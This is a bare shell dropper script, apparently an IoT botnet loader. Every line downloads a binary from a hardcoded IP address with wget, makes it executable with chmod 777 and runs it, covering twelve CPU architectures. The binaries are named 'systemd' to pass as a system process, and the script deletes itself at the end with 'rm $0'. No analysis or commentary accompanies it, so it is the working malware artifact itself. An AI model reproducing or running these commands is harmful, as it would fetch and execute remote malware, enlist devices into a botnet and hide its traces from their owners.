wget http://23.146.184.21/bins/systemd.arm; chmod 777 systemd.arm; ./systemd.arm arm
wget http://23.146.184.21/bins/systemd.arm5; chmod 777 systemd.arm5; ./systemd.arm5 arm5
wget http://23.146.184.21/bins/systemd.arm6; chmod 777 systemd.arm6; ./systemd.arm6 arm6
wget http://23.146.184.21/bins/systemd.arm7; chmod 777 systemd.arm7; ./systemd.arm7 arm7
wget http://23.146.184.21/bins/systemd.m68k; chmod 777 systemd.m68k; ./systemd.m68k m68k
wget http://23.146.184.21/bins/systemd.mips; chmod 777 systemd.mips; ./systemd.mips mips
wget http://23.146.184.21/bins/systemd.mpsl; chmod 777 systemd.mpsl; ./systemd.mpsl mpsl
wget http://23.146.184.21/bins/systemd.ppc; chmod 777 systemd.ppc; ./systemd.ppc ppc
wget http://23.146.184.21/bins/systemd.sh4; chmod 777 systemd.sh4; ./systemd.sh4 sh4
wget http://23.146.184.21/bins/systemd.spc; chmod 777 systemd.spc; ./systemd.spc spc
wget http://23.146.184.21/bins/systemd.x86; chmod 777 systemd.x86; ./systemd.x86 x86
wget http://23.146.184.21/bins/systemd.x86_64; chmod 777 systemd.x86_64; ./systemd.x86_64 x86_64

rm $0
